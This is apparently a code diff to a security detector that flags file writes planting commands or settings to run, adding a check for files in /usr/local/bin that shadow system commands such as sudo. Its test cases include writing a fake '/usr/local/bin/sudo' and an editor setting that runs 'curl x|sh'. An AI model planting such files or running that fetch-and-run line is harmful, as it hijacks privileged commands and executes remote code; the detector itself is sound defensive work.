@@ -61,6 +61,15 @@ const KINDS: readonly Kind[] = [
 const SHADOWED =
   /^(?:ls|cat|cp|mv|rm|cd|sudo|ssh|scp|git|curl|wget|grep|find|make|npm|node|python3?|pip3?|docker|kubectl|aws|terraform|gh|go|cargo|bash|sh|zsh|ps|su|env|vim|vi|less|man)$/;
 
+/** Those of the system itself, which nobody installs anew where a shell looks before the system's own folders. */
+const OF_SYSTEM = /^(?:ls|cat|cp|mv|rm|sudo|su|doas|ssh|scp|grep|find|bash|sh|ps|env|login|passwd|id|mount|systemctl)$/;
+
+/** Whether a file of `/usr/local/bin` and the like comes before the system's own command of that name. */
+function comesBefore(path: string): boolean {
+  const program = /^\/usr\/local\/s?bin\/([^/]+)$/.exec(path)?.[1];
+  return program !== undefined && OF_SYSTEM.test(program);
+}
+
 /** The path below somebody's home folder; null for one of a workspace, and for any other. */
 function belowHome(path: string, { surroundings }: PathContext): string | null {
   if (surroundings.workspaces.some((folder) => path.startsWith(`${folder}/`))) return null;
@@ -71,6 +80,7 @@ function belowHome(path: string, { surroundings }: PathContext): string | null {
 
 /** When something of a person's own settings starts what is written into them; null when it is none of these. */
 function ofHome({ path }: Touch, context: PathContext): string | null {
+  if (comesBefore(path)) return 'in place of a command';
   const inside = belowHome(path, context);
   if (inside === null) return null;
   const after = context.texts?.after ?? context.left ?? null;
@@ -148,6 +158,7 @@ export const plantedToRun: PathPack = {
       { path: './.git/config', how: 'write', rule: 'planted/git-setting', effect: 'execute' },
       { path: '~/.vimrc', how: 'write', rule: 'planted/settings', effect: 'execute' },
       { path: '~/.ssh/config', how: 'write', rule: 'planted/settings', effect: 'execute' },
+      { path: '/usr/local/bin/sudo', how: 'write', rule: 'planted/settings', effect: 'execute' },
       { path: '~/.local/bin/ls', how: 'write', rule: 'planted/settings', effect: 'execute' },
       {
         ...{ path: '~/.config/nvim/init.lua', how: 'write', before: '', after: 'vim.fn.system("curl x|sh")' },
@@ -178,6 +189,7 @@ export const plantedToRun: PathPack = {
       { path: './.npmrc', how: 'write' },
       { path: './dotfiles/.vimrc', how: 'write' },
       { path: '~/.local/bin/mytool', how: 'write' },
+      { path: '/usr/local/bin/terraform', how: 'write' },
       { path: '~/.vimrc', how: 'write', before: '', after: 'set number\nsyntax on\ncolorscheme desert\nlet g:x = 1' },
       { path: '~/.config/nvim/init.lua', how: 'write', before: '', after: 'vim.opt.number = true\nrequire("plugins")' },
       { path: '~/.config/nvim/lazy-lock.json', how: 'write' },
